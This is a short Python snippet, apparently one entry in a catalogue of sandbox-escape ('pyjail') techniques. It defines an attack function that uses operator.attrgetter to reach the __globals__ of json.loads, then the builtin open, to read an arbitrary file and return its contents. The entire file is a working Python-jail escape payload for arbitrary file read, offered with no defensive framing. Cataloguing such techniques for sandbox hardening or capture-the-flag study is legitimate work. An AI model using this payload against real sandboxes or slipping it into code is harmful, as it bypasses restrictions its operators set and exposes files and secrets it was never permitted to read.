# `operator.attrgetter` reads attributes by name.
# after: read
# source: pyjail: attrgetter
import json
from operator import attrgetter
def attack(path, **_):
    return {"text": attrgetter("__globals__")(json.loads)["__builtins__"]["open"](path).read()}
